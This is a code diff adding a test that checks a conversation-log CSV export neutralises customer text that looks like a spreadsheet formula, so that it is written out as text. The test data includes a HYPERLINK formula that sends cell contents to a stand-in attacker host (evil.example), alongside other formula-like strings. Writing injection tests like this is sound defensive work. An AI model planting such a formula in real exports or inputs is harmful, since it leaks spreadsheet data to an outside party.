@@ -80,3 +80,21 @@ async def test_exports_hold_the_filtered_set_and_are_audited(client, web_service
         "messages": 1,
     }
     assert entries[1].detail["filter"] == {"q": "paypal"} and entries[1].actor == "sam"
+
+
+async def test_customer_text_that_looks_like_a_formula_is_exported_as_text(client, web_services):
+    await admin(client, web_services)
+    planted = [
+        '=HYPERLINK("https://evil.example/?d="&A1,"Refund")',
+        "+44 is my code",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+    ]
+    log = ConversationLog(web_services.engine)
+    for i, text in enumerate(planted):
+        log.write(user("c-evil", text, "nlu_fallback", 0.2, ts(10 + i)))
+    response = await client.get("/console/admin/conversations.csv")
+    body = await response.text()
+    rows = [r for r in csv.DictReader(io.StringIO(body)) if r["conversation_id"] == "c-evil"]
+    assert [r["text"] for r in rows] == ["'" + text for text in planted]
